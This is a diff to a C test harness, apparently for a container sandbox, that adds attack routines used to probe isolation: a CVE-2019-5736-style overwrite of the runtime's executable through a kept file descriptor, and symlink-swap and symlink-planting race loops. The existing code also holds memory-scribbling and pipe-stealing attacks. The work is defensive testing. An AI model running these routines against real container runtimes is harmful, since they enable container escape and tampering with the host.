@@ -14,6 +14,7 @@
  *   hold                 trace the first one once it executes another program, and ignore its end
  *   steal MESSAGE        open its pipes, write the message to them, and keep them open
  *   scribble             stop it, and overwrite all of its memory
+ *   overwrite            keep its program open, and write to that once it executes another one
  *   reuse                kill it once it executes another program, and take over its pid to exit with 0
  *
  * MARKER is a file of the host, SECRET a text in the memory of the agent and of another container. Each line of the
@@ -25,6 +26,9 @@
  *
  * `churn MEBIBYTES` creates directories in one another in the sandbox, moves some of them to another place and back all the
  * time, and fills them meanwhile.
+ *
+ * `swap DIRECTORY TARGET` creates the directory `data` there and the link `link` to the target, and exchanges the two all the
+ * time. `plant PATH TARGET` puts a link to the target at a path all the time, as soon as its directory exists.
  *
  * `forge TARGET` is the command of a container: a child of it attacks process TARGET in all ways that could change how
  * the end of the command is recorded, and then the command exits with 7.
@@ -310,7 +314,7 @@ static void scribble(pid_t pid)
     kill(pid, SIGSTOP);
     memset(piece, 0xcc, sizeof piece);
     if (!content(at(pid, "maps"), maps, sizeof maps))
-        return;
+        maps[0] = 0;
     int memory = open(at(pid, "mem"), O_RDWR | O_CLOEXEC);
     size_t written = 0;
     for (char *line = strtok(maps, "\n"); memory >= 0 && line; line = strtok(NULL, "\n")) {
@@ -358,6 +362,32 @@ static void reuse(pid_t pid)
     }
 }
 
+/* As in CVE-2019-5736: a program cannot be written while it is executed, but a descriptor of it can be kept until then. */
+static void overwrite(pid_t pid)
+{
+    char path[64], exe[4096];
+    int file = -1, writable = -1;
+    while ((kill(pid, 0) == 0 || errno == EPERM) && !has_executed(pid))
+        if (file < 0 && link_of(at(pid, "exe"), exe, sizeof exe) && strstr(exe, "memfd:cofferdam"))
+            file = open(at(pid, "exe"), O_RDONLY | O_CLOEXEC);
+    if (file < 0) {
+        report(pid, "not opened");
+        return;
+    }
+    report(pid, "opened");
+    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
+    for (int tries = 0; writable < 0 && tries < 10000; tries++)
+        if ((writable = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno != ETXTBSY)
+            break;
+    if (writable >= 0 && (write(writable, "#!", 2) > 0 || ftruncate(writable, 0) == 0 || fallocate(writable, 0, 0, 1) == 0))
+        report(pid, "OVERWRITTEN");
+    if (open(path, O_WRONLY | O_TRUNC | O_CLOEXEC) >= 0)
+        report(pid, "TRUNCATED");
+    if (writable >= 0)
+        close(writable);
+    close(file);
+}
+
 static void act(const char *action, pid_t pid)
 {
     if (strcmp(action, "look") == 0) {
@@ -383,6 +413,8 @@ static void act(const char *action, pid_t pid)
         hold(pid);
     } else if (strcmp(action, "scribble") == 0) {
         scribble(pid);
+    } else if (strcmp(action, "overwrite") == 0) {
+        overwrite(pid);
     } else if (strcmp(action, "reuse") == 0) {
         reuse(pid);
     }
@@ -516,6 +548,33 @@ static int churn(int mebibytes)
         pause();
 }
 
+static int swap(const char *directory, const char *target)
+{
+    if (chdir(directory) || (mkdir("data", 0777) && errno != EEXIST) || symlink(target, "link")) {
+        report(0, "not prepared: %s", strerror(errno));
+        return 1;
+    }
+    mkdir("data/sub", 0777);
+    close(open("data/inside", O_CREAT | O_WRONLY | O_CLOEXEC, 0666));
+    report(0, "ready");
+    for (;;)
+        renameat2(AT_FDCWD, "data", AT_FDCWD, "link", RENAME_EXCHANGE);
+}
+
+static void plant(const char *path, const char *target)
+{
+    int planted = 0;
+    report(0, "ready");
+    for (;;) {
+        if (symlink(target, path) == 0) {
+            if (!planted++)
+                report(0, "planted");
+        } else if (errno == EEXIST && unlink(path)) {
+            rmdir(path);
+        }
+    }
+}
+
 static void forge(pid_t target)
 {
     char path[64], target_link[4096];
@@ -577,6 +636,10 @@ int main(int count, char **arguments)
         return churn(atoi(marker));
     else if (strcmp(arguments[1], "nest") == 0 && count == 6)
         return nest(marker, secret, atoi(arguments[4]), atoi(arguments[5]));
+    else if (strcmp(arguments[1], "swap") == 0)
+        return swap(marker, secret);
+    else if (strcmp(arguments[1], "plant") == 0)
+        plant(marker, secret);
     else if (strcmp(arguments[1], "self") == 0)
         show_self();
     else
